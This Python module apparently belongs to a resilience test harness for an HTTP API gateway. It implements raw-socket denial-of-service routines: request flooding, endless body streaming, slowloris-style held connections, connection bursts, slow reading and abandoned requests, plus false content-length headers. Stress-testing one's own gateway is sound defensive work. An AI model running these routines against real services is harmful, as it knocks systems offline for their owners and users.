"""What an attacker knows of the gateway, and how it speaks to it: raw sockets, so that every byte is its own choice.

A connection that the gateway refuses, resets or closes is no error: the attacker opens the next one.
"""

import asyncio
import contextlib
import itertools
import math
import random
import socket
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager

PIECE_BYTES = 64 * 1024
_CONNECT_SECONDS = 2.0
_BACK_OFF_SECONDS = 0.02
_HEAD_END = b"\r\n\r\n"
_LAST_CHUNK = b"0\r\n\r\n"


class Target:
    """The gateway. `key` is the attacker's secret, `limited_key` one of a plan of 60 requests a minute; both may be empty.

    `start` waits, when everything is prepared, for the moment in which the attack begins.
    """

    def __init__(
        self, host: str, port: int, *, key: str, limited_key: str, seconds: float, start: Callable[[], Awaitable[None]]
    ) -> None:
        self.host = host
        self.port = port
        self.key = key
        self.limited_key = limited_key
        self._seconds = seconds
        self._start = start
        self._ends_at = math.inf
        self.random = random.Random(8)
        self.numbers = itertools.count()
        self.opened = 0
        self.sent_bytes = 0
        self.responses: dict[str, int] = {}

    async def begin(self) -> None:
        """Wait for the beginning of the attack."""
        await self._start()
        self._ends_at = time.monotonic() + self._seconds

    @property
    def is_over(self) -> bool:
        """Whether the attack has lasted long enough."""
        return time.monotonic() >= self._ends_at

    @asynccontextmanager
    async def connection(self, *, receive_bytes: int | None = None) -> AsyncIterator["Connection"]:
        """Open a connection, and close it at the exit; raises OSError. `receive_bytes`: the size of its receive buffer."""
        raw = socket.socket()
        try:
            raw.setblocking(False)
            if receive_bytes is not None:
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
            async with asyncio.timeout(_CONNECT_SECONDS):
                await asyncio.get_running_loop().sock_connect(raw, (self.host, self.port))
            self.opened += 1
            yield Connection(self, raw)
        finally:
            raw.close()

    async def stay(self) -> None:
        """Wait for the end of the attack."""
        await asyncio.sleep(max(0.0, self._ends_at - time.monotonic()))


class Connection:
    """One connection of an attacker. Every method raises OSError where the gateway has ended it."""

    def __init__(self, target: Target, raw: socket.socket) -> None:
        self._target = target
        self._raw = raw
        self._loop = asyncio.get_running_loop()
        self._received = b""

    async def send(self, data: bytes) -> None:
        """Send all of it."""
        await self._loop.sock_sendall(self._raw, data)
        self._target.sent_bytes += len(data)

    async def read(self, most_bytes: int = PIECE_BYTES) -> bytes:
        """Return the next bytes; raises `ConnectionResetError` at the end."""
        data = await self._loop.sock_recv(self._raw, most_bytes)
        if not data:
            raise ConnectionResetError("the gateway has closed the connection")
        return data

    async def read_response(self) -> bytes:
        """Read one whole response, drop its body and return its head."""
        received = bytearray(self._received)
        while (head_end := received.find(_HEAD_END)) < 0:
            received += await self.read()
        head = bytes(received[:head_end]).lower()
        self._count(head)
        _, found, length = head.partition(b"\r\ncontent-length: ")
        if found:
            missing = head_end + len(_HEAD_END) + int(length.partition(b"\r\n")[0]) - len(received)
            while missing > 0:
                missing -= len(await self.read())
            return head
        tail = bytes(received[-len(_LAST_CHUNK) :])
        while not tail.endswith(_LAST_CHUNK):
            tail = (tail + await self.read())[-len(_LAST_CHUNK) :]
        return head

    def end_sending(self) -> None:
        """Close this side alone."""
        self._raw.shutdown(socket.SHUT_WR)

    def _count(self, head: bytes) -> None:
        status = head[9:12].decode("latin-1")
        self._target.responses[status] = self._target.responses.get(status, 0) + 1


def post(
    path: str, body: bytes, *, key: str = "", headers: Iterable[str] = (), declared_bytes: int | None = None
) -> bytes:
    """Return a POST; `declared_bytes`: another length than the body has."""
    length = len(body) if declared_bytes is None else declared_bytes
    return head("POST", path, key=key, headers=(*headers, f"content-length: {length}")) + body


def head(method: str, path: str, *, key: str = "", headers: Iterable[str] = ()) -> bytes:
    """Return the head of a request."""
    named = [f"authorization: Bearer {key}"] if key else []
    lines = (f"{method} {path} HTTP/1.1", "host: gateway", "content-type: application/json", *named, *headers)
    return "\r\n".join((*lines, "", "")).encode()


async def at_once(target: Target, connections: int, act: Callable[[], Awaitable[None]]) -> None:
    """Wait for the beginning, and repeat `act` on so many connections until the attack is over."""
    await target.begin()

    async def repeat() -> None:
        while not target.is_over:
            try:
                await act()
            except (OSError, TimeoutError, ValueError):
                await asyncio.sleep(_BACK_OFF_SECONDS)

    tasks = [asyncio.create_task(repeat()) for _ in range(connections)]
    await target.stay()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def flood(target: Target, connections: int, request: Callable[[], bytes]) -> None:
    """Send requests in a closed loop on so many connections, and read every response."""

    async def act() -> None:
        async with target.connection() as connection:
            while not target.is_over:
                await connection.send(request())
                if b"\r\nconnection: close" in await connection.read_response():
                    return

    await at_once(target, connections, act)


async def pour(target: Target, connections: int, beginning: bytes, piece: Callable[[], bytes]) -> None:
    """Send a beginning and then pieces without end, as fast as they are taken; when it is cut off, again."""

    async def act() -> None:
        async with target.connection() as connection:
            await connection.send(beginning)
            while not target.is_over:
                await connection.send(piece())

    await at_once(target, connections, act)


async def hold(
    target: Target,
    connections: int,
    beginning: Callable[[], bytes],
    *,
    drip: bytes = b"",
    drip_seconds: float = 0.5,
    receive_bytes: int | None = None,
) -> None:
    """Open so many connections, send a beginning on each and keep it, reading nothing; `drip` is sent now and then."""

    async def act() -> None:
        async with target.connection(receive_bytes=receive_bytes) as connection:
            await connection.send(beginning())
            while drip and not target.is_over:
                await asyncio.sleep(drip_seconds)
                await connection.send(drip)
            await target.stay()

    await at_once(target, connections, act)


async def burst(target: Target, connections: int, data: Callable[[], bytes], *, stay_seconds: float = 0.7) -> None:
    """Send data on so many connections at once, read nothing, close all of them, and do it again."""

    async def act() -> None:
        async with target.connection() as connection:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(stay_seconds):
                    await connection.send(data())
                    await asyncio.sleep(stay_seconds)

    await at_once(target, connections, act)


async def sip(
    target: Target,
    connections: int,
    request: Callable[[], bytes],
    *,
    piece_bytes: int = 2_048,
    every_seconds: float = 0.25,
) -> None:
    """Send a request on so many connections and read each response slowly, through a small receive buffer."""

    async def act() -> None:
        async with target.connection(receive_bytes=4_096) as connection:
            await connection.send(request())
            while not target.is_over:
                await connection.read(piece_bytes)
                await asyncio.sleep(every_seconds)

    await at_once(target, connections, act)


async def leave(target: Target, connections: int, request: Callable[[], bytes], *, after_seconds: float) -> None:
    """Send a request and leave before its response, again and again."""

    async def act() -> None:
        async with target.connection() as connection:
            await connection.send(request())
            await asyncio.sleep(after_seconds)

    await at_once(target, connections, act)
